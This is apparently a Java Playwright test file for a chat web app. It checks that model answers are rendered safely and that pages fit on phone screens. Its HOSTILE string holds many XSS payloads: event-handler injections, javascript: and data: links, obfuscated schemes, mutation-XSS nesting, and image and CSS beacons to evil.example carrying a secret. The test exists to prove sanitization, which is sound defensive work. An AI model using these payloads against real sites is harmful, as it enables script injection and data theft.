// SPDX-License-Identifier: Apache-2.0
package dev.teleprinter.tests;

import static dev.teleprinter.openai.ScriptedUpstream.script;
import static dev.teleprinter.tests.ChatScript.MODEL;
import static dev.teleprinter.tests.ChatScript.delta;
import static dev.teleprinter.tests.ChatScript.stop;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.options.ColorScheme;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What holds for the pages whatever is in them: nothing runs, nothing leaks, all fits. */
@Timeout(120)
@ExtendWith(Chromium.class)
class PagesIT {
  private static final String HOSTILE =
      """
      Before ![x](https://evil.example/?q=secret) ![y](//evil.example/y.png)
      <img src="https://evil.example/i" onerror="globalThis.ran = 1"> <svg onload="globalThis.ran = 2"></svg>
      [script](javascript:globalThis.ran=3) [data](data:text/html,<script>opener.ran=4</script>)
      <a href="  jAvAsCrIpT&colon;globalThis.ran=5">x</a> <javascript:globalThis.ran=6>

      <script>globalThis.ran = 7</script>
      <iframe srcdoc="<script>parent.ran = 8</script>"></iframe>
      <style>@import "https://evil.example/s.css"; * { background: url(https://evil.example/b) }</style>
      <link rel="stylesheet" href="https://evil.example/l.css"><base href="https://evil.example/">
      <form action="https://evil.example"><button id="composer">Send</button></form>
      <math><mtext><table><mglyph><style><img src=x onerror="globalThis.ran = 9">

      ```js"onmouseover="globalThis.ran=10
      </code></pre><script>globalThis.ran = 11</script>
      ```

      [ref]: javascript:globalThis.ran=12
      [ref] and | a | <img src=x onerror=globalThis.ran=13> |
      |---|---|

      After\
      """;

  @Test
  void runNothingThatAnAnswerBrings(Site site) {
    site.answers(stop(script().stream().data(delta(HOSTILE))));
    var chat = site.chat().ask(MODEL, HOSTILE);
    chat.awaitStatus("completed").awaitShown("After");
    var page = chat.page;
    assertThat(
            page.locator(
                    ".turn :is(script, iframe, style, link, base, form, object, embed, svg, math,"
                        + " [id], [onerror])")
                .count())
        .isZero();
    assertThat(page.locator(".turn img:not([src^='data:'], [src^='blob:'])").count()).isZero();
    for (var link : page.locator(".tp-body a").all()) {
      assertThat(link.getAttribute("href")).matches("(https?|mailto):.*");
      assertThat(link.getAttribute("rel")).contains("noopener", "noreferrer");
    }
    for (var part : page.locator(".tp-body *").all()) {
      part.dispatchEvent("mouseover");
    }
    assertThat(page.evaluate("() => globalThis.ran ?? null")).isNull();
    assertThat(chat.text()).isEqualTo(HOSTILE);
    page.reload();
    new ChatPage(page).awaitStatus("completed").awaitShown("After");
    assertThat(page.evaluate("() => globalThis.ran ?? null")).isNull();
  }

  @ParameterizedTest
  @CsvSource({"360, LIGHT", "360, DARK"})
  void fitAPhone(int width, ColorScheme colours, Site site) {
    var unbroken = "a".repeat(200);
    var text =
        "# "
            + unbroken
            + "\n\n`"
            + unbroken
            + "`\n\n| a | b |\n|---|---|\n| "
            + unbroken
            + " | "
            + "word ".repeat(40)
            + "|\n\n```\n"
            + unbroken
            + "\n```\n\n- "
            + unbroken
            + "\n\nhttps://example.org/"
            + unbroken
            + "\n\n"
            + "汉".repeat(100);
    site.answers(stop(script().stream().data(delta(text))));
    site.tabs().phone(width, colours);
    var chat = site.chat();
    assertThat(ChatPage.isTooWide(chat.page)).isFalse();
    chat.page.locator("#model").selectOption(MODEL);
    chat.page.getByTestId("question-input").fill(unbroken);
    chat.get("send").click();
    chat.awaitStatus("completed");
    assertThat(ChatPage.isTooWide(chat.page)).isFalse();
    chat.page.locator("#menu").click();
    chat.page.getByTestId("chats").waitFor(); // it slides in
    assertThat(ChatPage.isTooWide(chat.page)).isFalse();
    chat.page.keyboard().press("Escape");
    for (var what : List.of("edit", "instruct", "inspect")) {
      chat.get(what).click();
      assertThat(ChatPage.isTooWide(chat.page)).as(what).isFalse();
      chat.page.keyboard().press("Escape");
    }

    var clock = site.open("/examples/clock");
    clock.waitForSelector("#events tr");
    assertThat(ChatPage.isTooWide(clock)).isFalse();
    var dark = colours == ColorScheme.DARK;
    assertThat(clock.evaluate("() => getComputedStyle(document.documentElement).backgroundColor"))
        .isEqualTo(dark ? "rgb(23, 22, 20)" : "rgb(251, 250, 247)");
    clock.getByTestId("theme").click();
    assertThat(clock.locator("html").getAttribute("data-theme")).isEqualTo(dark ? "light" : "dark");
    chat.page.waitForSelector(
        "html[data-theme=" + (dark ? "light" : "dark") + "]"); // the other tab too
  }
}
